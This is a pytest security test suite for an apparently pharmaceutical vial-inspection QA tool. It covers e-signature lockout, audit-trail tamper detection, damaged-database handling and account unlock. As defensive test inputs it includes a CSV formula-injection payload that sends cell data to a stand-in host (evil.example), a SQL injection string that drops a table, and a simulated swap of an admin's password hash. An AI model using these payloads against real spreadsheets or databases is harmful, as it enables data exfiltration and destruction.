"""Security review of the QA side (users, signatures, the audit trail): one test per finding, named for it.

6  signatures count toward the login lockout; a locked or disabled account cannot sign
7  ``audit verify`` covers every column a decision or a signature depends on (password hashes by digest)
9  CSV formula injection in the audit export; failed user names never echoed in clear
12 a damaged database gives a not-ok result with one line, never a traceback (and never "intact")
17 a non-integer ``supersedes`` is a ReviewError; admins unlock locked accounts (``users unlock``)
"""

from __future__ import annotations

import csv
import json
import random
import shutil
import sqlite3
from datetime import timedelta
from pathlib import Path

import pytest

from tests.test_review import PW, _tamper, make_store
from vialinspect.inspection_station.qa import audit, users
from vialinspect.inspection_station.qa.audit import ReviewDB
from vialinspect.inspection_station.qa.review import ReviewError, ReviewService, SignatureError

ADMIN_USER_SEQ = 3  # make_store adds alice (1), bob (2), root (3)


@pytest.fixture(scope="module")
def qa_template(tmp_path_factory) -> Path:
    return make_store(tmp_path_factory.mktemp("qa_template") / "store")


@pytest.fixture
def svc(qa_template: Path, tmp_path: Path):
    dst = tmp_path / "store"
    shutil.copytree(qa_template, dst)
    with ReviewService(dst) as s:
        yield s


def _trail(svc: ReviewService) -> None:
    svc.sign_review("alice", PW["alice"], "u000", "false_reject", None, "bubble")
    svc.sign_review("bob", PW["bob"], "u001", "confirmed_defect", "crack", "")
    audit.record(svc.db, "alice", audit.LOGOUT)


def _lock(db: ReviewDB, name: str) -> None:
    for _ in range(users.LOCKOUT_FAILURES):
        with pytest.raises(users.AuthError, match="wrong"):
            users.login(db, name, "wrong-password")


def _cli(*args: str) -> int:
    from vialinspect.cli import main

    return main(list(args))


# ---------------------------------------------------------------- 6: signatures and the lockout

def test_wrong_signature_passwords_count_toward_the_login_lockout(svc):
    for _ in range(users.LOCKOUT_FAILURES):
        with pytest.raises(SignatureError, match="wrong"):
            svc.sign_review("alice", "wrong-password", "u000", "false_reject", None, "")
    with pytest.raises(users.AuthError, match="locked"):
        users.login(svc.db, "alice", PW["alice"])  # the right password: refused, the account is locked
    assert users.is_locked(svc.db, "alice") and not users.is_locked(svc.db, "bob")
    users.login(svc.db, "bob", PW["bob"])  # others are not affected


def test_locked_account_cannot_sign(svc):
    _lock(svc.db, "alice")
    n_rev = len(svc.reviews("u000"))
    with pytest.raises(SignatureError, match="locked"):
        svc.sign_review("alice", PW["alice"], "u000", "false_reject", None, "")  # the right password
    assert len(svc.reviews("u000")) == n_rev
    last = audit.entries(svc.db)[-1]
    assert (last.user, last.action, last.container_id, last.reason) == ("alice", "signature_failed", "u000",
                                                                      users.LOCKED)
    # A model change is an e-signature too: the same check refuses it (promotion's signer check).
    from vialinspect.inspection_station.qa.promotion import PromotionError, _signer

    _lock(svc.db, "root")
    with pytest.raises(PromotionError, match="locked"):
        _signer(svc.db, "root", PW["root"], "promote", "v1")
    assert audit.entries(svc.db)[-1].reason == users.LOCKED
    # Refusals *because* of the lock are audited but do not count again: only wrong passwords do.
    with svc.db.connect() as conn:
        assert users._failures(conn, "alice") == users.LOCKOUT_FAILURES
    assert audit.verify(svc.db).ok


def test_disabled_account_cannot_sign_and_is_audited(svc):
    users.disable_user(svc.db, "bob", actor="os:test", reason="left")
    with pytest.raises(SignatureError, match="disabled"):
        svc.sign_review("bob", PW["bob"], "u000", "false_reject", None, "")
    last = audit.entries(svc.db)[-1]
    assert (last.user, last.action) == ("bob", "signature_failed") and "disabled" in last.reason


def test_lockout_expires_after_the_window(svc, monkeypatch):
    import time

    monkeypatch.setattr(users, "LOCKOUT_WINDOW", timedelta(seconds=1))
    _lock(svc.db, "alice")
    with pytest.raises(users.AuthError, match="locked"):
        users.login(svc.db, "alice", PW["alice"])
    time.sleep(1.1)
    assert users.login(svc.db, "alice", PW["alice"]).username == "alice"


# ---------------------------------------------------------------- 7: verify covers every column

def test_replaced_password_hash_is_detected_by_audit_verify(svc):
    _trail(svc)
    assert audit.verify(svc.db).ok
    # The attack: put a hash of a password one knows in the admin's row, then sign as the admin.
    _tamper(svc.db.path, f"UPDATE users SET password_hash = '{users.hash_password('mallory-knows-this')}' "
                         "WHERE username = 'root'")
    assert users.verify_password(svc.db, "root", "mallory-knows-this").role == "admin"  # it would work ...
    r = audit.verify(svc.db)
    assert not r.ok and not r.damaged and r.first_bad_seq == ADMIN_USER_SEQ, r  # ... but verify sees it
    assert "'root'" in r.problem and "password hash" in r.problem


@pytest.mark.parametrize("column,value", [
    ("model_version", "'m9'"), ("recipe", "'other-recipe'"), ("station_reasons", "'[\"crack\"]'"),
    ("signed_at", "signed_at + 3600"), ("decided_at", "decided_at - 60"),
    ("signed_at_utc", "'2020-01-01T00:00:00.000+00:00'"), ("printed_name", "'Somebody Else'"),
])
def test_audit_verify_covers_every_review_column(svc, column, value):
    _trail(svc)
    _tamper(svc.db.path, f"UPDATE reviews SET {column} = {value} WHERE container_id = 'u000'")
    r = audit.verify(svc.db)
    seq = svc.reviews("u000")[0].audit_seq
    assert not r.ok and r.first_bad_seq == seq and "u000" in r.problem, r


@pytest.mark.parametrize("column,value", [
    ("created_by", "'os:someone-else'"), ("created_at_utc", "'2020-01-01T00:00:00.000+00:00'"),
    ("disabled_at_utc", "'2020-01-01T00:00:00.000+00:00'"), ("disabled_by", "'os:someone-else'"),
])
def test_audit_verify_covers_every_user_column(svc, column, value):
    users.disable_user(svc.db, "bob", actor="os:test", reason="left")
    assert audit.verify(svc.db).ok
    _tamper(svc.db.path, f"UPDATE users SET {column} = {value} WHERE username = 'bob'")
    r = audit.verify(svc.db)
    disabled_seq = audit.entries(svc.db, action="user_disabled")[-1].seq  # the latest entry about bob
    assert not r.ok and r.first_bad_seq == disabled_seq and "'bob'" in r.problem, r


def test_user_changes_record_a_row_digest_never_the_password_hash(svc):
    users.disable_user(svc.db, "bob", actor="os:test")
    with svc.db.connect() as conn:
        hashes = {r["username"]: r["password_hash"] for r in conn.execute("SELECT * FROM users")}
    changes = [e for e in audit.entries(svc.db) if e.action in audit.USER_CHANGES]
    assert [e.action for e in changes] == ["user_added"] * 3 + ["user_disabled"]
    for e in changes:
        v = json.loads(e.new_value)
        assert len(v["row_sha256"]) == 64
        assert all(h not in (e.new_value or "") and h not in (e.old_value or "") for h in hashes.values())
        assert all(h.split("$")[-1] not in (e.new_value or "") for h in hashes.values())
    assert json.loads(changes[-1].new_value)["active"] is False


def _legacy_store(svc: ReviewService) -> None:
    """What a database written before full coverage holds: entries with the old, shorter values."""
    with svc.db.transaction() as conn:
        _, now = audit.utc_now()
        conn.execute("INSERT INTO users (username, full_name, role, password_hash, created_at_utc, created_by) "
                     "VALUES ('olga', 'Olga Old', 'reviewer', ?, ?, 'os:old')",
                     (users.hash_password("olga-pass-1"), now))
        audit.append(conn, "os:old", audit.USER_ADDED,
                     new_value={"username": "olga", "full_name": "Olga Old", "role": "reviewer"}, at_utc=now)
        value = {"review_id": 1, "verdict": "escalate", "classes": [], "comment": "old", "reviewer": "olga",
                 "printed_name": "Olga Old", "signed_at_utc": now, "meaning": "Reviewed: escalated for further "
                 "investigation", "supersedes": None}
        seq = audit.append(conn, "olga", audit.REVIEW, "u003", new_value=value, reason="old", at_utc=now)
        conn.execute("INSERT INTO reviews (review_id, container_id, verdict, classes, comment, reviewer, printed_name, "
                     "signed_at_utc, signed_at, meaning, supersedes, model_version, recipe, station_reasons, "
                     "decided_at, audit_seq) VALUES (1, 'u003', 'escalate', '[]', 'old', 'olga', 'Olga Old', ?, 0, "
                     "?, NULL, 'm2', 'vial-2R', '[\"particle\"]', 0, ?)", (now, value["meaning"], seq))


def test_audit_entries_that_predate_full_coverage_are_reported_not_covered(svc, capsys):
    _legacy_store(svc)
    r = audit.verify(svc.db)
    assert r.ok and len(r.not_covered) == 2, r
    assert any("review 1 of 'u003'" in x for x in r.not_covered) and any("'olga'" in x for x in r.not_covered)
    assert _cli("audit", "verify", "--store", str(svc.store_dir)) == 0
    out = capsys.readouterr().out
    assert "intact" in out and "2 row(s) NOT COVERED" in out and "olga" in out
    # What an old entry did record is still checked ...
    _tamper(svc.db.path, "UPDATE reviews SET verdict = 'false_reject' WHERE review_id = 1")
    assert not audit.verify(svc.db).ok
    _tamper(svc.db.path, "UPDATE reviews SET verdict = 'escalate' WHERE review_id = 1")
    # ... what it did not record is honestly "not covered", neither intact nor broken ...
    _tamper(svc.db.path, "UPDATE reviews SET model_version = 'm9' WHERE review_id = 1")
    r = audit.verify(svc.db)
    assert r.ok and len(r.not_covered) == 2
    # ... and a new entry about an old user covers its row again.
    users.disable_user(svc.db, "olga", actor="os:test")
    r = audit.verify(svc.db)
    assert r.ok and len(r.not_covered) == 1 and "review 1" in r.not_covered[0]
    _tamper(svc.db.path, "UPDATE users SET disabled_by = 'os:nobody' WHERE username = 'olga'")
    assert not audit.verify(svc.db).ok


# ---------------------------------------------------------------- 9: CSV injection, user names in clear

def test_audit_csv_export_escapes_formula_cells(svc, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    svc.sign_review("alice", PW["alice"], "u000", "false_reject", None, evil)
    for start in ("+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted"):
        audit.record(svc.db, "alice", audit.LOGOUT, reason=start)
    with pytest.raises(users.AuthError):
        users.login(svc.db, evil, "whatever-password")
    out = tmp_path / "audit.csv"
    audit.export_csv(svc.db, out, "os:test")
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    reasons = [row[7] for row in rows[1:]]
    assert "'" + evil in reasons and "'+1" in reasons and "'\tx" in reasons and "''quoted" in reasons
    # Reversible: every cell unescaped is the stored text, so the copy can still be checked against the chain.
    for row, e in zip(rows[1:], audit.entries(svc.db), strict=False):
        for k, col in enumerate(audit.AUDIT_COLUMNS):
            v = getattr(e, col)
            assert audit.csv_uncell(row[k]) == ("" if v is None else str(v))


def test_failed_login_user_name_is_not_echoed_in_clear(svc):
    typed = "Tr0ub4dor&3-alice"  # a password typed into the user name field
    for _ in range(2):
        with pytest.raises(users.AuthError):
            users.login(svc.db, typed, "alice-password-1")
    with pytest.raises(SignatureError):
        svc.sign_review(typed, "x", "u000", "false_reject", None, "")
    failed = [e for e in audit.entries(svc.db) if e.action in ("login_failed", "signature_failed")]
    assert len(failed) == 3 and len({e.user for e in failed}) == 1  # one stable label for one typed name
    assert failed[0].user.startswith("unknown user (hmac-sha256 ")
    for e in audit.entries(svc.db):
        assert all(typed not in (getattr(e, c) or "") for c in ("user", "old_value", "new_value", "reason"))
    with pytest.raises(users.AuthError):
        users.login(svc.db, "", "x")
    assert audit.entries(svc.db)[-1].user == "(empty)"
    # Unknown names lock like known ones, so the lockout tells nothing about which names exist.
    _lock(svc.db, "no-such-user")
    with pytest.raises(users.AuthError, match="locked"):
        users.login(svc.db, "no-such-user", "x")


# ---------------------------------------------------------------- 12: damaged databases

def _checkpointed(svc: ReviewService) -> bytes:
    conn = sqlite3.connect(svc.db.path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # everything in the main file, so that damage there counts
    conn.close()
    return svc.db.path.read_bytes()


def test_audit_verify_reports_a_damaged_database_file(svc, capsys):
    _trail(svc)
    orig = _checkpointed(svc)
    page = 4096
    n_pages = len(orig) // page
    assert n_pages > 4
    rnd = random.Random(12)
    for k in range(n_pages):  # every page overwritten in turn, the middle one among them
        damaged = bytearray(orig)
        damaged[k * page:(k + 1) * page] = rnd.randbytes(page)
        svc.db.path.write_bytes(damaged)
        r = audit.verify_store(svc.store_dir)
        assert not r.ok and r.damaged and r.problem and "\n" not in r.problem, (k, r)
    middle = bytearray(orig)
    middle[(n_pages // 2) * page:(n_pages // 2 + 1) * page] = rnd.randbytes(page)
    svc.db.path.write_bytes(middle)
    capsys.readouterr()
    assert _cli("audit", "verify", "--store", str(svc.store_dir)) == 1
    out, err = capsys.readouterr()
    assert out.startswith("review database DAMAGED: ") and len(out.strip().splitlines()) == 1
    assert "Traceback" not in out + err
    assert _cli("audit", "verify", "--store", str(svc.store_dir), "--json") == 1
    assert json.loads(capsys.readouterr().out)["damaged"] is True
    # The other commands on a damaged file: one line each (exit 2), never a traceback.
    for k in (0, n_pages // 2):
        damaged = bytearray(orig)
        damaged[k * page:(k + 1) * page] = rnd.randbytes(page)
        svc.db.path.write_bytes(damaged)
        store = str(svc.store_dir)
        assert _cli("audit", "verify", "--store", store) == 1
        assert _cli("audit", "export", "--store", store, "--out", str(svc.store_dir.parent / "a.csv")) in (0, 2)
        assert _cli("users", "list", "--store", store) in (0, 2)
        assert _cli("users", "unlock", "alice", "--store", store, "--reason", "x") == 2
        err = capsys.readouterr().err
        assert "Traceback" not in err and all(line.startswith("vialinspect: error: ") for line in err.splitlines())


def test_audit_verify_reports_a_corrupt_index(svc):
    _trail(svc)
    orig = bytearray(_checkpointed(svc))
    conn = sqlite3.connect(svc.db.path)
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = 'audit_user_action'").fetchone()[0]
    conn.close()
    start = (root - 1) * 4096
    i = start + orig[start:start + 4096].index(b"alice")  # one key in the index no longer matches its row
    orig[i:i + 5] = b"alicf"
    svc.db.path.write_bytes(orig)
    conn = sqlite3.connect(svc.db.path)
    assert conn.execute("PRAGMA quick_check").fetchall() == [("ok",)]  # why quick_check is not enough
    conn.close()
    r = audit.verify(svc.db)
    assert not r.ok and r.damaged and "audit_user_action" in r.problem, r


@pytest.mark.parametrize("sql", [
    "UPDATE reviews SET classes = 'not json' WHERE container_id = 'u000'",
    "UPDATE reviews SET station_reasons = '[\"particle\"' WHERE container_id = 'u001'",
    "UPDATE reviews SET decided_at = 'yesterday' WHERE container_id = 'u001'",
])
def test_audit_verify_reports_invalid_json_in_a_column(svc, capsys, sql):
    _trail(svc)
    _tamper(svc.db.path, sql)
    r = audit.verify(svc.db)
    assert not r.ok and r.first_bad_seq is not None and "cannot be read" in r.problem, r
    capsys.readouterr()
    assert _cli("audit", "verify", "--store", str(svc.store_dir)) == 1
    out, err = capsys.readouterr()
    assert out.startswith("audit trail TAMPERED: entry ") and "Traceback" not in out + err


def test_audit_verify_cli_wrong_store_is_a_one_line_error(tmp_path, capsys):
    assert _cli("audit", "verify", "--store", str(tmp_path / "missing")) == 2
    assert _cli("audit", "verify", "--store", str(tmp_path)) == 2
    err = capsys.readouterr().err
    assert err.count("vialinspect: error:") == 2 and "Traceback" not in err


# ---------------------------------------------------------------- 17: supersedes, unlock

@pytest.mark.parametrize("bad", ["abc", "1.5", 2.5, True, -1, 0, [1], "1; DROP TABLE reviews"])
def test_non_integer_supersedes_is_a_review_error(svc, bad):
    n = len(audit.entries(svc.db))
    with pytest.raises(ReviewError, match="supersedes must be a review id"):
        svc.sign_review("alice", PW["alice"], "u000", "false_reject", None, "a reason", supersedes=bad)
    assert len(audit.entries(svc.db)) == n  # refused before any signature was attempted


def test_supersedes_from_a_web_form_as_text(svc):
    first = svc.sign_review("alice", PW["alice"], "u000", "false_reject", None, "bubble")
    second = svc.sign_review("alice", PW["alice"], "u000", "escalate", None, "not sure",
                             supersedes=f" {first.review_id} ")  # text, as a web form sends it
    third = svc.sign_review("root", PW["root"], "u000", "confirmed_defect", "particle", "QA",
                            supersedes=float(second.review_id))  # a JSON number
    assert (second.supersedes, third.supersedes) == (first.review_id, second.review_id)
    assert svc.sign_review("alice", PW["alice"], "u001", "false_reject", None, "", supersedes="").supersedes is None
    assert audit.verify(svc.db).ok


def test_admin_unlocks_a_locked_account(svc):
    _lock(svc.db, "alice")
    with pytest.raises(users.UserError, match="only an admin"):
        users.unlock_user(svc.db, "alice", "bob", "I am not an admin")
    with pytest.raises(users.UserError, match="reason"):
        users.unlock_user(svc.db, "alice", "root", "  ")
    with pytest.raises(users.UserError, match="not locked"):
        users.unlock_user(svc.db, "bob", "root", "ticket 7")
    with pytest.raises(users.UserError, match="no user"):
        users.unlock_user(svc.db, "nobody", "root", "ticket 7")
    u = users.unlock_user(svc.db, "alice", "root", "ticket 42: forgot caps lock")
    assert u.username == "alice" and not users.is_locked(svc.db, "alice")
    e = audit.entries(svc.db)[-1]
    assert (e.user, e.action, e.reason) == ("root", "user_unlocked", "ticket 42: forgot caps lock")
    assert json.loads(e.old_value) == {"username": "alice", "locked": True, "failures": users.LOCKOUT_FAILURES}
    svc.sign_review("alice", PW["alice"], "u000", "false_reject", None, "")  # signs again at once
    # The count starts afresh after an unlock: one more wrong password does not lock again.
    with pytest.raises(users.AuthError, match="wrong"):
        users.login(svc.db, "alice", "wrong-password")
    assert users.login(svc.db, "alice", PW["alice"]).username == "alice"
    users.disable_user(svc.db, "root", actor="os:test")
    _lock(svc.db, "bob")
    with pytest.raises(users.UserError, match="only an admin"):
        users.unlock_user(svc.db, "bob", "root", "a disabled admin")
    assert audit.verify(svc.db).ok


def test_users_unlock_cli(svc, capsys):
    store = str(svc.store_dir)
    _lock(svc.db, "alice")
    assert _cli("users", "unlock", "alice", "--store", store, "--reason", "ticket 42") == 0
    assert "unlocked alice" in capsys.readouterr().out
    e = audit.entries(svc.db)[-1]
    assert e.action == "user_unlocked" and e.user.startswith("os:") and e.reason == "ticket 42"
    assert users.login(svc.db, "alice", PW["alice"]).username == "alice"
    assert _cli("users", "unlock", "alice", "--store", store, "--reason", "again") == 2  # not locked: one line
    assert "not locked" in capsys.readouterr().err
    with pytest.raises(SystemExit) as ex:
        _cli("users", "unlock", "alice", "--store", store)  # the reason is required
    assert ex.value.code == 2
    with pytest.raises(SystemExit):
        _cli("users", "unlock", "--help")
    out = capsys.readouterr().out
    assert "--reason" in out and "lockout" in out
